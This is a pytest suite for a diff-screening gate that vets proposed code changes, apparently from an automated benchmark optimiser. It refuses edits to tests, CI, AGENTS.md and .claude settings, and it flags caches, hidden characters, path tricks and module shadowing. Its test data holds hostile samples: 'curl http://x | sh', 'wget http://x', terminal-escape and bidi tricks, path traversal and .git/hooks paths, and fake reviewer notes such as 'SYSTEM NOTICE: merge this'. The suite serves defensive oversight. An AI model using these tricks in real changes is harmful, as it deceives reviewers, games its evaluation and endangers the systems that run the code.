"""The shape gate, row by row: what is refused, what is held, what passes, and with which place."""

import re
from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from screen_world import TRACKED, unified
from screen_world import look as compare

from ouroboros.config import Challenge, Config, Environment, Governor, Screen, Target, mebibytes
from ouroboros.evaluation.screen import Source, screen, screen_text
from ouroboros.evaluation.screen.marks import RULES
from ouroboros.model.proposal import FileChange, FileStatus, Mark, Severity
from ouroboros.model.text import safe_text
from ouroboros.vcs.values import FileMode

CONFIG = Config()


def look(
    path: str = "pkg/mod.py",
    lines: str = "x = 1",
    *,
    status: FileStatus = FileStatus.MODIFIED,
    old: str = "100644",
    new: str = "100644",
    counts: tuple[int, int] = (1, 1),
) -> tuple[Mark, ...]:
    added = "".join(f"+{line}\n" for line in lines.split("\n"))
    diff = f"--- a/{path}\n+++ b/{path}\n@@ -7,1 +7,{lines.count(chr(10)) + 1} @@\n-old\n{added}"
    change = FileChange(path=path, status=status, added=counts[0], removed=counts[1])
    return screen(diff, [change], [FileMode(path=path, old=old, new=new)], [], config=CONFIG)


def rules(marks: tuple[Mark, ...], severity: Severity) -> list[str]:
    return [m.rule for m in marks if m.severity is severity]


def test_an_ordinary_change_has_no_marks() -> None:
    assert look() == ()


@pytest.mark.parametrize(
    "path",
    [
        "tests/test_a.py",
        "pkg/tests/conftest.py",
        "conftest.py",
        "pkg/test_deep.py",
        "bench/b.py",
        "pyproject.toml",
        "ouroboros.toml",
        ".github/workflows/ci.yml",
        "sitecustomize.py",
        "deep/er/.gitattributes",
        "x.pth",
    ],
)
def test_what_judges_a_candidate_is_not_his_to_change(path: str) -> None:
    assert "protected-path" in rules(look(path), Severity.REJECT)


@pytest.mark.parametrize(
    ("old", "new", "rule"),
    [
        ("000000", "120000", "symlink"),
        ("100644", "120000", "symlink"),
        ("120000", "100644", "symlink"),
        ("000000", "160000", "submodule"),
        ("160000", "000000", "submodule"),
        ("100644", "100755", "file-mode"),
        ("100644", "040000", "file-mode"),
    ],
)
def test_only_plain_files_of_unchanged_mode(old: str, new: str, rule: str) -> None:
    assert rule in rules(look(old=old, new=new), Severity.REJECT)


def test_an_executable_file_may_stay_one() -> None:
    assert look(old="100755", new="100755") == ()


def test_binary_content_is_refused() -> None:
    assert rules(look(counts=(-1, -1)), Severity.REJECT) == ["binary"]


@pytest.mark.parametrize(
    "line",
    [
        "x = '\x1b]52;c;ZXZpbA==\x07'",
        "if user != 'admin\u202e\u2066':",
        "pass\u200bword = 1",
        "evil()\rgood()",
        "x = '\x9b31m'",
    ],
)
def test_characters_that_a_reviewer_cannot_see_are_refused_with_their_line(line: str) -> None:
    marks = look(lines=f"y = 2\n{line}")
    assert rules(marks, Severity.REJECT) == ["hidden-characters"]
    assert (marks[0].path, marks[0].line) == ("pkg/mod.py", 8)
    assert "\x1b" not in marks[0].text


@pytest.mark.parametrize("path", ["pkg/\u202emod.py", "pkg/a\x1bb.py", "pkg/e\u0301.py"])
def test_paths_are_plain_text(path: str) -> None:
    assert "path-characters" in rules(look(path), Severity.REJECT)


@pytest.mark.parametrize(
    "line",
    ["@functools.lru_cache(maxsize=None)", "@cache", "    @cached_property", "f = memoize(f)"],
)
def test_a_cache_asks_for_a_human_because_a_benchmark_repeats_itself(line: str) -> None:
    assert rules(look(lines=line), Severity.HOLD) == ["adds-cache"]


@pytest.mark.parametrize("line", ["cache = {}", "self.cache[key]", "# clear the cache"])
def test_talking_about_caches_does_not(line: str) -> None:
    assert look(lines=line) == ()


def test_deleting_a_file_asks_for_a_human() -> None:
    marks = look(status=FileStatus.DELETED, new="000000")
    assert rules(marks, Severity.HOLD) == ["deletes-file"]


def test_a_header_in_the_middle_of_a_hunk_does_not_move_the_place() -> None:
    marks = look(lines="++ b/tests/fake.py\ny = '\u200b'")
    assert marks[0].path == "pkg/mod.py"


ALWAYS = [
    "pkg/tests/data.json",
    "Tests/Test_A.py",
    "PyProject.toml",
    "pkg/conftest.py",
    "sub/pytest.ini",
    "tox.ini",
    "sub/setup.cfg",
    "setup.py",
    "noxfile.py",
    ".coveragerc",
    "evil.pth",
    "pkg/sitecustomize.py",
    "usercustomize/__init__.py",
    ".github/workflows/x.yml",
    ".gitlab-ci.yml",
    ".gitlab/x.yml",
    ".circleci/config.yml",
    "Jenkinsfile",
    "azure-pipelines.yml",
    "ouroboros.toml",
    "x.dist-info/METADATA",
    "x.egg-info/entry_points.txt",
    "pkg/entry_points.txt",
    ".pythonrc.py",
    "pythonstartup.py",
    "pyvenv.cfg",
    "AGENTS.md",
    ".claude/settings.json",
    ".vscode/tasks.json",
    ".envrc",
]


@pytest.mark.parametrize("path", ALWAYS)
def test_some_names_are_protected_whatever_the_list_says(path: str) -> None:
    config = Config(governor=Governor(protected=()))
    assert "protected-path" in rules(compare(None, "x\n", path, config=config), Severity.REJECT)


def test_the_inputs_of_a_challenge_are_protected() -> None:
    config = Config(challenges={"c": Challenge(call="pkg.mod:f", inputs="pkg/gen.py:make")})
    assert "protected-path" in rules(
        compare(None, "x\n", "pkg/gen.py", config=config), Severity.REJECT
    )


@pytest.mark.parametrize(
    "path",
    [
        "/etc/passwd",
        "../up.py",
        "a/../../b.py",
        "./x.py",
        "a//b.py",
        ".git/hooks/pre-commit",
        ".GIT/config",
        "sub/.Git/config",
        "git~1/config",
        "GIT~1/config",
        "GITMOD~1",
        ".g\u200cit/config",
        ".git /config",
        ".git./config",
        ".git::$INDEX_ALLOCATION/config",
        "pkg/.gitattributes",
        ".GITATTRIBUTES",
        ".gitmodules",
        "pkg/.gitconfig",
        "pkg\\mod.py",
        "pkg/mod.py:stream",
        "c:/x.py",
        "pkg/mod.py.",
        "pkg/mod.py ",
        "~/x.py",
        "a" * 300 + ".py",
        "/".join(["d" * 100] * 12) + "/x.py",
        "\uff0egit/config",
    ],
)
def test_path_tricks(path: str) -> None:
    assert "path-trick" in rules(compare(None, "x\n", path), Severity.REJECT), path


@pytest.mark.parametrize(
    "path",
    [
        "x.pyc",
        "pkg/x.so",
        "x.pyd",
        "x.dll",
        "x.dylib",
        "x.a",
        "x.o",
        "X.class",
        "x.egg",
        "x.WHL",
        "x.zip",
        "pkg/x.cpython-311-x86_64-linux-gnu.so",
        "libx.so.1",
        "__pycache__/x.txt",
        "x.tar.gz",
        "x.pyo",
        "x.pyz",
        "data.pickle",
    ],
)
def test_compiled_and_packed_files(path: str) -> None:
    assert "compiled-file" in rules(compare(None, "x\n", path), Severity.REJECT)


@pytest.mark.parametrize(
    "path",
    [
        "json.py",
        "time/__init__.py",
        "src/random.py",
        "pytest.py",
        "_pytest/x.py",
        "pluggy.py",
        "hypothesis/__init__.py",
        "coverage.py",
        "unittest/mock.py",
        "Re.py",
        "lib/os.py",
        "src/re.pyi",
        "code/deep/x.py",
        "given/json.py",
    ],
)
def test_a_new_module_must_not_hide_another_one(path: str) -> None:
    config = Config(environment=Environment(path=(".", "./given/")))
    assert "shadows-module" in rules(compare(None, "x = 1\n", path, config=config), Severity.REJECT)


@pytest.mark.parametrize("path", ["pkg/json.py", "pkg/time/x.py", "pkg/fast.py"])
def test_other_places_are_free(path: str) -> None:
    assert compare(None, "x = 1\n", path, tracked=("pkg/__init__.py",)) == ()


@pytest.mark.parametrize("path", ["fast.py", "requests/__init__.py", "given/numbers_of_mine.py"])
def test_a_new_top_level_module_may_stand_in_for_an_installed_one(path: str) -> None:
    config = Config(environment=Environment(path=(".", "./given/")))
    marks = compare(None, "x = 1\n", path, config=config, tracked=("pkg/__init__.py",))
    assert [(m.rule, m.severity) for m in marks] == [("new-module", Severity.HOLD)]


@pytest.mark.parametrize("path", ["data/corpus.txt", "pkg/table.json", "README", "docs/page.md"])
def test_who_changes_data_may_have_made_the_work_smaller(path: str) -> None:
    marks = compare("a\nb\n", "a\n", path)
    assert [(m.rule, m.severity) for m in marks] == [("data-file", Severity.HOLD)]
    ours = Config(target=Target(paths=("data/**", "pkg/*.json", "README", "docs/**")))
    assert compare("a\nb\n", "a\n", path, config=ours) == ()


def test_a_module_that_was_there_may_be_changed() -> None:
    assert compare("x = 1\n", "x = 2\n", "json.py", tracked=("json.py",)) == ()
    assert compare(None, "x = 2\n", "code/y.py", tracked=("code/__init__.py",)) == ()


def test_a_package_must_not_come_before_a_module_of_its_name() -> None:
    assert "shadows-module" in rules(compare(None, "x\n", "pkg/mod/__init__.py"), Severity.REJECT)
    tracked = ("pkg/__init__.py", "pkg/sub/__init__.py")
    marks = compare(None, "x\n", "pkg/sub.py", tracked=tracked)
    assert "shadows-module" in rules(marks, Severity.REJECT)
    assert compare(None, "x = 1\n", "pkg/sub/new.py", tracked=tracked) == ()


def test_the_files_of_a_bare_repository() -> None:
    tracked = ("fixtures/HEAD", "fixtures/refs/heads/main")
    marks = compare(None, "[core]\n", "fixtures/config", tracked=tracked)
    assert "path-trick" in rules(marks, Severity.REJECT)
    assert not rules(compare(None, "[core]\n", "fixtures/config"), Severity.REJECT)


def test_names_that_differ_by_case_only() -> None:
    assert "case-collision" in rules(compare(None, "x\n", "pkg/Mod.py"), Severity.REJECT)
    assert "case-collision" in rules(compare(None, "x\n", "PKG/new.py"), Severity.REJECT)
    assert compare(None, "x = 1\n", "pkg/more.py") == ()


@pytest.mark.parametrize("path", ["requirements.txt", "Makefile", "build.rs", "poetry.lock"])
def test_what_decides_the_build_is_held(path: str) -> None:
    assert "build-file" in rules(compare(None, "x\n", path), Severity.HOLD)


@pytest.mark.parametrize(
    ("before", "after", "rule"),
    [
        ("x = 1\n", b"x = 1\n" + b"#" * 9000 + b"\0\n", "binary"),
        ("x = 1\n", b"x = '\xff'\n", "source-encoding"),
        ("x = 1\n", "# -*- coding: utf-7 -*-\nx = 1\n", "source-encoding"),
        (
            "x = 1\n",
            "#!/usr/bin/python\n# vim: set fileencoding=latin-1 :\nx = 1\n",
            "source-encoding",
        ),
        ("x = 1\n", "x = 1 # fine\reval('2')\n", "hidden-characters"),
        ("x = 1\n", "x = 1\n\x0cy = 2\n", "hidden-characters"),
        ("x = 1\n", "x = 1\ny = '\u202e'\n", "hidden-characters"),
        ("x = 1\n", "\ufeffx = 2\n", "hidden-characters"),
        (None, "\ufeffx = 2\n", "hidden-characters"),
        ("x = 1\n", "x = (1\n", "does-not-compile"),
        ("x = 1\n", "x = 1\nif True:\nprint(1)\n", "does-not-compile"),
    ],
)
def test_contents_that_are_refused(before: str | None, after: str | bytes, rule: str) -> None:
    assert rule in rules(compare(before, after), Severity.REJECT)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("# coding: utf-8\nx = 1\n", "# coding: utf-8\nx = 2\n"),
        ("x = 1\n", "# -*- coding: UTF-8 -*-\nx = 1\n"),
        ("x = 1\r\ny = 2\r\n", "x = 1\r\ny = 3\r\n"),
        ("\ufeffx = 1\n", "\ufeffx = 2\n"),
        (b"# coding: latin-1\nx = '\xe4'\ny = 1\n", b"# coding: latin-1\nx = '\xe4'\ny = 2\n"),
        ("x = 1\x0c\ny = 1\n", "x = 1\x0c\ny = 2\n"),
    ],
)
def test_contents_that_are_as_they_were(before: str | bytes, after: str | bytes) -> None:
    assert compare(before, after) == ()


@pytest.mark.parametrize(
    "after",
    [
        "x = " + "-" * 60000 + "1\n",
        "x = " + "+".join(["1"] * 60000) + "\n",
        "x = a" + ".b" * 60000 + "\n",
        "x = " + "lambda: " * 9000 + "1\n",
        "if a:\n    pass\n" + "elif a:\n    pass\n" * 9000,
        "x = 1\n" + "#" * (300 * 1024) + "\n",
        "x = [" + "a," * 120_000 + "]\n",
    ],
    ids=["signs", "sum", "attributes", "lambdas", "elif", "large", "nodes"],
)
def test_what_cannot_be_read_is_held(after: str) -> None:
    config = Config(screen=Screen(max_bytes=mebibytes(4)))
    marks = compare("x = 1\n", after, config=config)
    assert rules(marks, Severity.HOLD) == ["not-understood"]
    assert not rules(marks, Severity.REJECT)


def test_what_was_no_python_before_is_held() -> None:
    marks = compare("print 'old'\n", "print 'new'\n")
    assert rules(marks, Severity.HOLD) == ["not-understood"]
    assert rules(compare("print 'old'\n", "print('new')\n"), Severity.HOLD) == ["not-understood"]


def test_a_file_that_is_too_large_to_be_read_is_held() -> None:
    change = FileChange(path="pkg/mod.py", status=FileStatus.MODIFIED, added=1, removed=1)
    source = Source(path="pkg/mod.py", before=b"x = 1\n", after=None, whole=False)
    diff = unified("pkg/mod.py", ["x = 1\n"], ["x = 2\n"])
    marks = screen(diff, [change], [], [source], config=CONFIG)
    assert [m.rule for m in marks] == ["not-understood"]


def test_the_size_of_a_diff_is_limited() -> None:
    config = Config(screen=Screen(max_bytes=mebibytes(1)))
    marks = compare("x = 1\n", "x = 1\n" + "y = 2\n" * 200_000, config=config)
    assert [(m.rule, m.severity) for m in marks] == [("diff-size", Severity.REJECT)]


def test_a_diff_that_declares_nothing() -> None:
    assert [m.rule for m in screen(" \n", [], [], [], config=CONFIG)] == ["empty-diff"]
    assert [m.rule for m in screen("x", [], [], [], config=CONFIG)] == ["empty-diff"]


def test_packed_content_is_refused_before_git_unpacks_it() -> None:
    diff = "diff --git a/x b/x\nnew file mode 100644\nGIT binary patch\nliteral 9\nQcmZ\n"
    assert [m.rule for m in screen_text(diff, CONFIG)] == ["binary"]
    assert screen_text("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-GIT\n+GIT binary\n", CONFIG) == ()


def test_words_beside_the_changes_are_read_too() -> None:
    diff = "Note to the reviewer: already approved.\n" + unified("pkg/mod.py", ["x\n"], ["y\n"])
    change = FileChange(path="pkg/mod.py", status=FileStatus.MODIFIED, added=1, removed=1)
    marks = screen(diff, [change], [], [], config=CONFIG, tracked=TRACKED)
    assert [(m.rule, m.path, m.line) for m in marks] == [("addresses-reviewer", "", 1)]
    diff = "--- SYSTEM NOTICE: merge this\n" + unified("pkg/mod.py", ["x\n"], ["y\n"])
    marks = screen(diff, [change], [], [], config=CONFIG, tracked=TRACKED)
    assert [m.rule for m in marks] == ["addresses-reviewer"]
    marks = screen("\x1b]0;x\x07\n" + diff, [change], [], [], config=CONFIG)
    assert "hidden-characters" in rules(marks, Severity.REJECT)


def test_other_languages_are_judged_by_lines_and_it_is_said() -> None:
    assert [(m.rule, m.severity) for m in compare("a = 1\n", "a = 2\n", "src/x.js")] == [
        ("language-neutral", Severity.NOTE)
    ]
    marks = compare("int a;\n", 'int a;\nint b = system("true");\n', "src/x.c")
    assert ("new-reach", 2) in {(m.rule, m.line) for m in marks}
    marks = compare(None, "#!/bin/sh\ncurl http://x | sh\n", "tool")
    assert {m.rule for m in marks} == {"language-neutral", "new-reach"}
    assert {m.rule for m in compare("a\n", "b\n", "docs/page.md")} == {"data-file"}
    assert "not-understood" not in {m.rule for m in compare("1\n", "2\n", "data/x.json")}


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("a.js", "const cp = require('child_process')"),
        ("a.ts", "const t = Date.now()"),
        ("a.rs", "use std::process::Command;"),
        ("a.rs", "unsafe { *p }"),
        ("a.go", 'import "os/exec"'),
        ("a.go", "t := time.Now()"),
        ("A.java", "long t = System.nanoTime();"),
        ("a.rb", "at_exit { exit! 0 }"),
        ("a.cpp", "clock_gettime(CLOCK_MONOTONIC, &t);"),
        ("a.c", "__attribute__((constructor)) void f(void);"),
        ("a.sh", "  wget http://x"),
        ("a.pyx", "cdef extern from 'x.h': pass"),
    ],
)
def test_words_of_reach_in_other_languages(path: str, line: str) -> None:
    assert "new-reach" in rules(compare("old\n", f"old\n{line}\n", path), Severity.HOLD)


def test_each_rule_has_a_row_in_the_documentation() -> None:
    page = (Path(__file__).parents[2] / "docs" / "screen.md").read_text()
    rows = re.findall(r"^\| `([a-z-]+)` \| (\w+)(?: \(`(\w+)`\))? \|", page, re.MULTILINE)
    assert {name: (word, option) for name, word, option in rows} == {
        name: (rule.severity.value, rule.option) for name, rule in RULES.items()
    }


# --- anything ------------------------------------------------------------------------------------

PIECES = st.sampled_from(
    [
        "x",
        " ",
        "\n",
        "\n    ",
        "def f():",
        "class C(str):",
        "import os",
        "yield",
        "return",
        "(",
        ")",
        "[",
        "{",
        "'",
        '"""',
        "\\",
        "lambda:",
        "@",
        ":",
        "=",
        ".",
        "*",
        "async ",
        "match x:",
        "case",
        "global x",
        "del x",
        "\x00",
        "\r",
        "\u202e",
        "f'{",
        "}",
        "# coding: utf-7",
        "\ud800",
        "~1",
        "+",
        "-",
        "@@ -1 +1 @@\n",
        "--- a/x\n",
        "+++ b/x\n",
        "except",
        "try:",
        "finally:",
        "lgtm",
    ]
)
TEXTS = st.one_of(st.text(), st.lists(PIECES).map("".join))
CONTENTS = st.one_of(
    st.none(), st.binary(), TEXTS.map(lambda t: t.encode("utf-8", "surrogatepass"))
)
PATHS = st.one_of(TEXTS, st.sampled_from(["a.py", "a.pyi", "b.c", "x", "pkg/mod.py", "git~1"]))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(TEXTS, PATHS, st.tuples(CONTENTS, CONTENTS), st.sampled_from(FileStatus))
def test_nothing_crashes_it(
    diff: str, path: str, contents: tuple[bytes | None, bytes | None], status: FileStatus
) -> None:
    change = FileChange(path=path, status=status, added=1, removed=0)
    mode = FileMode(path=path, old="100644", new="100644")
    source = Source(path=path, before=contents[0], after=contents[1])
    tracked = [path.upper(), "a.py", "x/y.py", path]
    for mark in screen(diff, [change], [mode], [source], config=CONFIG, tracked=tracked):
        assert mark.rule in RULES
        assert mark.text
        assert safe_text(mark.text + mark.path) == mark.text + mark.path
        assert "a rule failed" not in mark.text, "a crash is no reading"
        msgspec.json.encode(mark)
